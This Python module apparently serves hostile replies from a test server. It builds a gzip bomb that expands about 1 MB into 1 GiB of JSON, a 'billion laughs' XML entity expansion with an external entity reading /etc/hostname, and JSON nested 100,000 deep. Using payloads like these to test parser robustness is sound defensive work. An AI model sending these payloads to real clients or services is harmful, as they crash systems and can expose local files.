"""Answers that are small on the wire and ruinous for a careless reader."""
from __future__ import annotations

import functools
import struct
import zlib

from .wire import MIME, Reply

UNPACKED_BYTES = 2**30
DEPTH = 100_000
_BLOCK = 2**20


@functools.lru_cache(maxsize=1)
def gzip_bomb(unpacked: int = UNPACKED_BYTES) -> Reply:
    """JSON of 1 GiB (`unpacked` bytes) that is an empty list among blanks, in about 1 MB of gzip.

    Made without ever being unpacked here: one deflated block of blanks, repeated (RFC 1951 lets whole blocks follow
    each other).
    """
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    blanks = b" " * _BLOCK
    first = squeeze.compress(b"[") + squeeze.flush(zlib.Z_FULL_FLUSH)
    block = squeeze.compress(blanks) + squeeze.flush(zlib.Z_FULL_FLUSH)
    last = squeeze.compress(b"]") + squeeze.flush()
    count = unpacked // _BLOCK
    check = zlib.crc32(b"[")
    for _ in range(count):
        check = zlib.crc32(blanks, check)
    check = zlib.crc32(b"]", check)
    head = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
    tail = struct.pack("<II", check, (count * _BLOCK + 2) % 2**32)
    return Reply(200, MIME["json"], head + first + block * count + last + tail, {"Content-Encoding": "gzip"})


def entity_bomb() -> Reply:
    """XML whose DOCTYPE unfolds to 3 * 10^9 characters (the "billion laughs" of 2003) and names a file to be read."""
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = (
        f'<?xml version="1.0" encoding="utf-8"?><!DOCTYPE services [<!ENTITY l0 "lol">{rows}'
        '<!ENTITY file SYSTEM "file:///etc/hostname">]>'
        "<services><service><service_code>&l9;</service_code><service_name>&file;</service_name></service></services>"
    )
    return Reply(200, MIME["xml"], text.encode("utf-8"))


def deep_json() -> Reply:
    """Lists in lists, 100,000 deep."""
    return Reply(200, MIME["json"], b"[" * DEPTH + b"]" * DEPTH)
